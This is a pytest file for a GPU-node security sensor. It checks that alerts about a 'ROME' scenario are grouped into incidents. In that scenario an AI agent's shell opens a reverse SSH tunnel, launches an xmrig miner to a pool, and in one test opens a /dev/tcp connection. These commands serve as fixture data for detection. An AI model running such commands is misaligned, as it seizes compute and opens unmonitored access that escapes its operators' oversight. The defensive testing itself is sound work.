"""Incidents: the five ROME alerts as one incident, field by field; unrelated work kept apart
(another session, another command of the same session, keys every process shares); the
window; merges by a bridging alert; the caps; the summary.

Alerts are built as convert.alert builds them, each step's fact in full (`detail`).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass
from typing import Any

import pytest
from google.protobuf.timestamp_pb2 import Timestamp

from sensor.api.v1 import gpusentry_pb2 as pb
from sensor.incidents import MAX_ALERTS, MAX_LISTED, IncidentBook, join_keys, summary, tunnel_command

SEC = 1_000_000_000
WALL = 1_700_000_000 * SEC  # boot-to-wall offset
HOST = pb.Host(hostname="gpu-node-7", machine_id="0123456789abcdef")
ids = itertools.count(1)


@dataclass(frozen=True)
class Proc:
    pid: int
    exe: str
    argv: tuple[str, ...] = ()
    parent: Proc | None = None
    tunnel_scopes: tuple[str, ...] = ()

    @property
    def exec_id(self) -> str:
        return f"{self.pid}:{self.pid * 1000}:1"

    @property
    def key(self) -> str:
        return f"{self.pid}@{self.pid * 1000}"

    def ref(self) -> pb.ProcessRef:
        return pb.ProcessRef(exec_id=self.exec_id, pid=self.pid, exe=self.exe)

    def described(self) -> pb.AlertProcess:
        ancestors = []
        parent = self.parent
        while parent is not None:
            ancestors.append(parent.ref())
            parent = parent.parent
        return pb.AlertProcess(process=pb.Process(
            exec_id=self.exec_id, pid=self.pid, ppid=self.parent.pid if self.parent else 0, exe=self.exe,
            argv=list(self.argv), tunnel_scopes=list(self.tunnel_scopes)), ancestors=ancestors)


# The ROME run: an agent's harness (its session's root, below sshd) ran one shell command that
# opened a reverse tunnel and started a miner, which acquired GPU compute and reached a pool.
INIT = Proc(1, "/usr/lib/systemd/systemd")
SSHD = Proc(4100, "/usr/sbin/sshd-session", parent=INIT)
AGENT = Proc(4150, "/usr/bin/python3", ("python3", "agent.py"), SSHD)
SHELL = Proc(4200, "/usr/bin/bash", ("bash", "-c", "..."), AGENT)
SSH = Proc(4242, "/usr/bin/ssh", ("ssh", "-fNR", "2222:localhost:22", "tunnel@203.0.113.5"), SHELL,
           ("tunnel:4242:4242000:1",))
MINER = Proc(4300, "/tmp/xmrig", ("/tmp/xmrig", "-o", "203.0.113.10:3333"), SHELL)
# the same session's next command: a scan, nothing to do with the tunnel
SCAN_SHELL = Proc(4600, "/usr/bin/bash", ("bash", "-c", "nmap ..."), AGENT)
SCAN = Proc(4650, "/usr/bin/nmap", ("nmap", "10.0.0.0/24"), SCAN_SHELL)
# a later command of the same session, that started a miner of its own
LATER_SHELL = Proc(4400, "/usr/bin/bash", ("bash", "-c", "./xmrig ..."), AGENT)
LATER_MINER = Proc(4450, "/tmp/xmrig", ("/tmp/xmrig",), LATER_SHELL)
# another login altogether
OTHER_SESSION = Proc(5010, "/usr/bin/bash", ("-bash",), Proc(5000, "/usr/sbin/sshd-session", parent=INIT))
TRAINING = Proc(5100, "/usr/bin/python3", ("python3", "train.py"), OTHER_SESSION)


def fact(kind: pb.FactKind, proc: Proc, ts: int, **detail: Any) -> pb.Fact:
    return pb.Fact(time=stamp(ts), ts=ts, kind=kind, process=proc.ref(), summary=f"fact {kind}", **detail)


def stamp(ts: int) -> Timestamp:
    out = Timestamp()
    out.FromNanoseconds(WALL + ts)
    return out


TUNNEL = fact(pb.FACT_KIND_TUNNEL, SSH, 1000 * SEC, tunnel=pb.Tunnel(
    tool="ssh", reverse=True, directions=["reverse"], remote_host="203.0.113.5", remote_user="tunnel",
    forwards=["reverse 2222 -> localhost:22"], scope="tunnel:4242:4242000:1"))
COMPUTE = fact(pb.FACT_KIND_GPU_COMPUTE, MINER, 1060 * SEC, gpu_compute=pb.GpuComputeFact(
    handle=0xCAFE0001, class_id=0xCBC0, architecture="Hopper", channel_class=0xC86F, device_id=0))
POOL = fact(pb.FACT_KIND_MINER, MINER, 1120 * SEC, miner=pb.MinerFact(
    reason="pool-port", detail="3333", address="203.0.113.10", port=3333))


@dataclass
class Rule:
    id: str
    severity: pb.Severity
    scope: str = "fact"
    scope_key: str = ""


def alert(rule: Rule, steps: list[pb.Fact], processes: list[Proc]) -> pb.Alert:
    ts = steps[-1].ts
    return pb.Alert(
        id=f"alert-{next(ids)}", rule_id=rule.id, severity=rule.severity, title=rule.id.replace("-", " ").capitalize(),
        time=stamp(ts), ts=ts, scope=rule.scope, scope_key=rule.scope_key or steps[0].process.exec_id,
        steps=[pb.AlertStep(fact=pb.FactKind.Name(s.kind).removeprefix("FACT_KIND_").lower(), time=s.time,
                            summary=s.summary, exec_id=s.process.exec_id, detail=s) for s in steps],
        processes=[p.described() for p in processes])


def rome() -> list[pb.Alert]:
    """The five alerts the built-in rules raise for the ROME run, in the order they are raised."""
    lineage = f"lineage:{AGENT.key}"  # the detector's lineage: the whole session below sshd
    return [
        alert(Rule("reverse-tunnel-opened", pb.SEVERITY_HIGH), [TUNNEL], [SSH]),
        alert(Rule("reverse-tunnel-then-gpu-compute", pb.SEVERITY_CRITICAL, "lineage", lineage),
              [TUNNEL, COMPUTE], [SSH, MINER]),
        alert(Rule("miner-pool-connection", pb.SEVERITY_CRITICAL), [POOL], [MINER]),
        alert(Rule("reverse-tunnel-then-miner-egress", pb.SEVERITY_CRITICAL, "lineage", lineage),
              [TUNNEL, POOL], [SSH, MINER]),
        alert(Rule("gpu-compute-then-miner-egress", pb.SEVERITY_CRITICAL, "lineage", lineage),
              [COMPUTE, POOL], [MINER]),
    ]


def single(rule_id: str, proc: Proc, ts_s: int, severity: pb.Severity = pb.SEVERITY_MEDIUM) -> pb.Alert:
    """A single-fact alert about one process (its exec)."""
    return alert(Rule(rule_id, severity), [fact(pb.FACT_KIND_EXEC, proc, ts_s * SEC, exec=pb.ExecFact(
        exe=proc.exe, argv=list(proc.argv)))], [proc])


# -- ROME ----------------------------------------------------------------------------------


def test_the_five_rome_alerts_are_one_incident() -> None:
    book = IncidentBook(host=HOST)
    alerts = rome()
    first = book.add(alerts[0])  # the tunnel is opened
    assert book.add(alerts[1]) == first  # compute follows
    assert book.add_all(alerts[2:]) == [first]  # the pool connection raises three at once
    assert [a.incident_id for a in alerts] == [first] * 5
    incident = book.render(first)
    assert (incident.id, incident.cursor, incident.alerts_total, incident.severity) == (
        first, 0, 5, pb.SEVERITY_CRITICAL)
    assert list(incident.rule_ids) == ["reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute",
                                       "miner-pool-connection", "reverse-tunnel-then-miner-egress",
                                       "gpu-compute-then-miner-egress"]
    assert list(incident.alerts) == alerts  # oldest first, with their incident id
    assert list(incident.processes) == [SSH.described(), MINER.described()]
    assert (list(incident.tunnels), list(incident.gpu_compute), list(incident.connections)) == (
        [TUNNEL], [COMPUTE], [POOL])  # each once, though three alerts name the tunnel
    assert list(incident.scope_keys) == [f"exec:{SSH.exec_id}", "tunnel:4242:4242000:1", f"lineage:{SHELL.key}",
                                         f"lineage:{AGENT.key}", f"exec:{MINER.exec_id}"]
    assert (incident.first_ts, incident.last_ts) == (1000 * SEC, 1120 * SEC)
    assert (incident.first_seen, incident.last_seen) == (TUNNEL.time, POOL.time)
    assert incident.host == HOST
    assert incident.summary == (
        "`ssh -R 2222:localhost:22 tunnel@203.0.113.5` from pid 4242 (lineage of bash 4200) followed by GPU compute "
        "on GPU 0 (Hopper) and a connection to 203.0.113.10:3333 (miner pool); 5 alerts from 5 rules, highest "
        "critical.")
    assert (book.open_count, book.total, book.stats.merged) == (1, 1, 0)


def test_a_cursor_set_on_an_alert_after_it_joined_shows_in_the_next_version() -> None:
    """The publisher journals an alert after it joined; the incident version journaled next lists it with its cursor."""
    book = IncidentBook(host=HOST)
    tunnel = rome()[0]
    incident_id = book.add(tunnel)
    tunnel.cursor = 41
    assert [a.cursor for a in book.render(incident_id).alerts] == [41]


@pytest.mark.parametrize("elsewhere", [False, True])
def test_the_aggregators_own_rome_alerts_are_one_incident(elsewhere: bool) -> None:
    """Through the aggregator, the built-in rules and convert.alert, one observation at a time
    as the publisher gets them. The agent's shell opens the tunnel and starts a worker that
    acquires GPU compute; the worker reaches a pool, or (`elsewhere`) a later shell of the agent
    does, as the ROME scenario's `bash -c 'exec 3<>/dev/tcp/...'` does."""
    from sensor.aggregator.aggregator import Aggregator
    from sensor.api.convert import Clock
    from sensor.api.convert import alert as convert_alert
    from sensor.rules.loader import load_rules
    from tests.unit.test_builtin_rules import REVERSE, agent_tree

    host = agent_tree()  # python3 agent.py (100), its shell bash -c tools (101)
    host.spawn(101, 102, *REVERSE)
    host.spawn(101, 103, "/usr/bin/python3", "worker.py")
    host.gpu_compute(103)
    if elsewhere:
        host.spawn(100, 104, "/bin/bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/3333")
    host.connect(104 if elsewhere else 103, "203.0.113.9", 3333)
    aggregator, clock, book = Aggregator(rules=load_rules([])), Clock(WALL), IncidentBook(host=HOST)
    raised: list[pb.Alert] = []
    touched: list[str] = []
    for event in host.events:
        alerts = [convert_alert(a, clock) for a in aggregator.handle(event).alerts]
        touched += book.add_all(alerts)
        raised += alerts
    assert [a.rule_id for a in raised] == ["reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute",
                                           "miner-pool-connection", "reverse-tunnel-then-miner-egress",
                                           "gpu-compute-then-miner-egress"]
    assert len(set(touched)) == 1 and {a.incident_id for a in raised} == set(touched)
    incident = book.render(touched[0])
    assert (incident.alerts_total, len(incident.tunnels), len(incident.gpu_compute), len(incident.connections)) == (
        5, 1, 1, 1)
    assert incident.summary == (
        "`ssh -R 9000:localhost:22 root@198.51.100.1` from pid 102 (lineage of bash 101) followed by GPU compute on "
        "GPU 0 (Hopper) and a connection to 203.0.113.9:3333 (miner pool); 5 alerts from 5 rules, highest critical.")
    # elsewhere, the pool alert alone starts an incident that the alerts raised with it merge away at once
    assert (book.stats.opened, book.stats.merged) == ((2, 1) if elsewhere else (1, 0))


# -- what stays apart ------------------------------------------------------------------------


def test_unrelated_work_stays_apart() -> None:
    book = IncidentBook(host=HOST)
    ours = book.add_all(rome())
    other_session = book.add(single("known-miner-binary", TRAINING, 1010))
    same_session_other_command = book.add(alert(Rule("internal-scan", pb.SEVERITY_MEDIUM), [fact(
        pb.FACT_KIND_INTERNAL_SCAN, SCAN, 1030 * SEC, internal_scan=pb.InternalScanFact(destinations=40))], [SCAN]))
    assert len({ours[0], other_session, same_session_other_command}) == 3
    assert book.render(ours[0]).alerts_total == 5


def test_keys_every_process_shares_join_nothing() -> None:
    """Not init, not the session's root (the agent's harness here), not a whole cgroup, user or host."""
    keys = join_keys(single("r", SCAN, 1))
    assert keys == [f"exec:{SCAN.exec_id}", f"lineage:{SCAN_SHELL.key}"]
    for broad in ("cgroup:1", "user:0", "host"):
        scope = broad.split(":")[0]
        book = IncidentBook(host=HOST)
        first = book.add(alert(Rule("seq", pb.SEVERITY_HIGH, scope, broad), [TUNNEL], [SSH]))
        second = book.add(alert(Rule("seq", pb.SEVERITY_HIGH, scope, broad), [COMPUTE], [TRAINING]))
        assert first != second, broad


def test_a_process_directly_below_init_or_a_session_boundary_is_its_own_command() -> None:
    daemon = Proc(700, "/usr/local/bin/frpc", parent=INIT)
    login_shell = Proc(5010, "/usr/bin/bash", parent=Proc(5000, "/usr/sbin/sshd-session", parent=INIT))
    orphan = Proc(800, "/usr/bin/socat")  # its parent unknown
    assert join_keys(single("r", daemon, 1)) == [f"exec:{daemon.exec_id}"]
    assert join_keys(single("r", login_shell, 1)) == [f"exec:{login_shell.exec_id}"]
    assert join_keys(single("r", orphan, 1)) == [f"exec:{orphan.exec_id}"]
    assert join_keys(single("r", Proc(801, "/bin/sh", parent=orphan), 1)) == ["exec:801:801000:1", "lineage:801@801000"]


def test_a_session_that_came_back_through_the_tunnel_joins_by_its_scope() -> None:
    """A login through the reverse tunnel is outside the agent's tree; the tunnel's scope joins it."""
    book = IncidentBook(host=HOST)
    tunnel = book.add(rome()[0])
    back_in = Proc(6100, "/usr/bin/python3", ("python3", "mine.py"),
                   Proc(6010, "/usr/bin/bash", parent=Proc(6000, "/usr/sbin/sshd-session", parent=INIT)),
                   ("tunnel:4242:4242000:1",))
    compute = fact(pb.FACT_KIND_GPU_COMPUTE, back_in, 1100 * SEC, gpu_compute=pb.GpuComputeFact(
        class_id=0xC7C0, architecture="Ampere", device_id=1))
    assert book.add(alert(Rule("gpu-compute-in-tunnel-scope", pb.SEVERITY_HIGH), [compute], [back_in])) == tunnel
    assert book.render(tunnel).summary == (
        "`ssh -R 2222:localhost:22 tunnel@203.0.113.5` from pid 4242 (lineage of bash 4200) followed by GPU compute "
        "on GPU 1 (Ampere); 2 alerts from 2 rules, highest high.")


# -- the window, merges, caps --------------------------------------------------------------


def test_after_a_quiet_window_the_same_keys_start_a_new_incident() -> None:
    book = IncidentBook(window_s=60, host=HOST)
    first = book.add(single("r", SCAN, 100))
    assert book.add(single("r", SCAN, 160)) == first  # exactly a window after the last: still open
    later = book.add(single("r", SCAN, 221))
    assert later != first
    assert (book.open_count, book.stats.expired, book.stats.opened) == (1, 1, 2)
    with pytest.raises(KeyError, match="no open incident"):
        book.render(first)  # closed: it lives on in the journal only
    assert book.render(later).alerts_total == 1


def later_pool() -> tuple[pb.Alert, pb.Alert]:
    """The agent's later command reaches a pool; the rule that relates it to the tunnel (the
    session's lineage) bridges the two commands."""
    pool = fact(pb.FACT_KIND_MINER, LATER_MINER, 1120 * SEC, miner=pb.MinerFact(
        reason="pool-port", detail="3333", address="203.0.113.10", port=3333))
    bridge = Rule("reverse-tunnel-then-miner-egress", pb.SEVERITY_CRITICAL, "lineage", f"lineage:{AGENT.key}")
    return (alert(Rule("miner-pool-connection", pb.SEVERITY_CRITICAL), [pool], [LATER_MINER]),
            alert(bridge, [TUNNEL, pool], [SSH, LATER_MINER]))


def test_an_alert_that_joins_two_incidents_merges_them_into_the_older() -> None:
    book = IncidentBook(host=HOST)
    tunnel = rome()[0]
    pool, bridge = later_pool()
    older = book.add(tunnel)
    newer = book.add(pool)  # another command: nothing relates it to the tunnel yet
    assert newer != older
    assert book.add(bridge) == older
    assert pool.incident_id == older  # the alert object the book holds follows the merge
    merged = book.render(older)
    assert [a.rule_id for a in merged.alerts] == ["reverse-tunnel-opened", "miner-pool-connection",
                                                  "reverse-tunnel-then-miner-egress"]
    assert list(merged.rule_ids) == ["reverse-tunnel-opened", "miner-pool-connection",
                                     "reverse-tunnel-then-miner-egress"]
    assert (merged.alerts_total, merged.first_ts, merged.last_ts) == (3, 1000 * SEC, 1120 * SEC)
    assert book.render(newer).id == older  # a merged id leads to where it went
    assert book.take_absorbed(older) == [newer] and book.take_absorbed(older) == []
    assert (book.open_count, book.stats.opened, book.stats.merged) == (1, 2, 1)
    later = single("r", LATER_MINER, 1130)  # the merged incident's keys now lead to the older
    assert book.add(later) == older


def test_alerts_raised_together_are_grouped_before_anyone_sees_them() -> None:
    """The pool alone would start an incident that the next alert of the same observation merges
    away: add_all names only where they end up, and every alert says so."""
    book = IncidentBook(host=HOST)
    tunnel = rome()[0]
    pool, bridge = later_pool()
    home = book.add(tunnel)
    assert book.add_all([pool, bridge]) == [home]
    assert (pool.incident_id, bridge.incident_id) == (home, home)
    assert book.take_absorbed(home) != []  # one incident, never journaled: harmless to mark


def test_alerts_are_kept_oldest_first_up_to_the_cap_and_counted_beyond() -> None:
    book = IncidentBook(host=HOST)
    incident_id = ""
    for n in range(MAX_ALERTS + 50):
        incident_id = book.add(single("r", SCAN, 1000 + n))
    late_but_old = single("r", SCAN, 999)  # out of order: older than every alert kept
    book.add(late_but_old)
    incident = book.render(incident_id)
    assert (incident.alerts_total, len(incident.alerts)) == (MAX_ALERTS + 51, MAX_ALERTS)
    assert [a.ts // SEC for a in incident.alerts] == [999, *range(1000, 1000 + MAX_ALERTS - 1)]
    assert (incident.first_ts, incident.last_ts) == (999 * SEC, (1000 + MAX_ALERTS + 49) * SEC)


def test_processes_and_facts_are_capped() -> None:
    book = IncidentBook(host=HOST)
    incident_id = ""
    for n in range(MAX_LISTED + 20):  # processes that came back through the tunnel, each connecting out
        proc = Proc(10_000 + n, "/usr/bin/curl", parent=Proc(9000, "/usr/bin/bash", parent=INIT),
                    tunnel_scopes=("tunnel:4242:4242000:1",))
        egress = fact(pb.FACT_KIND_EGRESS, proc, (2000 + n) * SEC, egress=pb.Egress(address="198.51.100.7", port=n))
        incident_id = book.add(alert(Rule("egress", pb.SEVERITY_LOW), [egress], [proc]))
    incident = book.render(incident_id)
    assert (incident.alerts_total, len(incident.processes), len(incident.connections)) == (
        MAX_LISTED + 20, MAX_LISTED, MAX_LISTED)
    assert incident.summary.startswith("Connections to 198.51.100.7:0 (egress), 198.51.100.7:1 (egress), "
                                       "198.51.100.7:2 (egress) and 97 more by pid 10000; 120 alerts")


def test_at_most_max_open_incidents_are_kept() -> None:
    book = IncidentBook(host=HOST, max_open=2)
    oldest = book.add(single("r", SCAN, 1))
    book.add(single("r", TRAINING, 2))
    book.add(single("r", MINER, 3))
    assert (book.open_count, book.stats.evicted) == (2, 1)
    with pytest.raises(KeyError):
        book.render(oldest)
    assert book.add(single("r", SCAN, 4)) != oldest  # its keys are forgotten with it


# -- the summary ---------------------------------------------------------------------------


def test_facts_a_step_did_not_match_twice_are_listed_once() -> None:
    """Compute allocated twice on one GPU by one process, a connect and the egress it was: one each."""
    book = IncidentBook(host=HOST)
    again = fact(pb.FACT_KIND_GPU_COMPUTE, MINER, 1070 * SEC, gpu_compute=pb.GpuComputeFact(
        handle=0xCAFE0002, class_id=0xCBC0, architecture="Hopper", device_id=0))
    connect = fact(pb.FACT_KIND_CONNECT, MINER, 1120 * SEC, connect=pb.Connect(
        address="203.0.113.10", port=3333, destination="egress"))
    lan = fact(pb.FACT_KIND_CONNECT, MINER, 1121 * SEC, connect=pb.Connect(address="10.0.0.2", port=22,
                                                                           destination="lan"))
    incident_id = book.add_all([alert(Rule("a", pb.SEVERITY_LOW), [COMPUTE, connect], [MINER]),
                                alert(Rule("b", pb.SEVERITY_HIGH), [again, POOL, lan], [MINER])])[0]
    incident = book.render(incident_id)
    assert (list(incident.gpu_compute), list(incident.connections)) == ([COMPUTE], [connect, POOL])
    assert incident.summary == ("GPU compute on GPU 0 (Hopper) by pid 4300 followed by a connection to "
                                "203.0.113.10:3333 (miner pool); 2 alerts from 2 rules, highest high.")


def test_an_incident_without_tunnel_compute_or_connection_says_what_its_first_alert_said() -> None:
    book = IncidentBook(host=HOST)
    incident_id = book.add(single("known-miner-binary", MINER, 5, pb.SEVERITY_HIGH))
    assert book.render(incident_id).summary == "Known miner binary (pid 4300); 1 alert from 1 rule, highest high."
    assert summary(pb.Incident()) == "An incident; 0 alerts from 0 rules, highest unspecified."


@pytest.mark.parametrize(("tunnel", "said"), [
    (pb.Tunnel(tool="ssh", forwards=["reverse 127.0.0.1:9000 -> localhost:22", "local 8080 -> db:5432"],
               remote_host="203.0.113.5", remote_port=2222),
     "`ssh -R 127.0.0.1:9000:localhost:22 -L 8080:db:5432 -p 2222 203.0.113.5`"),
    (pb.Tunnel(tool="autossh", forwards=["dynamic 1080"], remote_host="h", remote_user="u"), "`autossh -D 1080 u@h`"),
    (pb.Tunnel(tool="chisel", directions=["reverse"], remote_host="203.0.113.5"),
     "chisel tunnel (reverse) to 203.0.113.5"),
    (pb.Tunnel(tool="ssh", forwards=["reverse 9000 -> localhost:22"], remote_host="h", remote_user="u",
               evidence="config", via=["hop1", "bob@hop2:2022"]),
     "`ssh -R 9000:localhost:22 -J hop1,bob@hop2:2022 u@h` (forwards from ssh's config files)"),
    (pb.Tunnel(tool="ssh", forwards=["reverse 9000 -> localhost:22"], remote_host="h", evidence="argv",
               via=["ProxyCommand"]), "`ssh -R 9000:localhost:22 -o ProxyCommand=... h`"),
])
def test_a_tunnel_is_said_as_the_command_that_says_it_plainly(tunnel: pb.Tunnel, said: str) -> None:
    assert tunnel_command(tunnel) == said
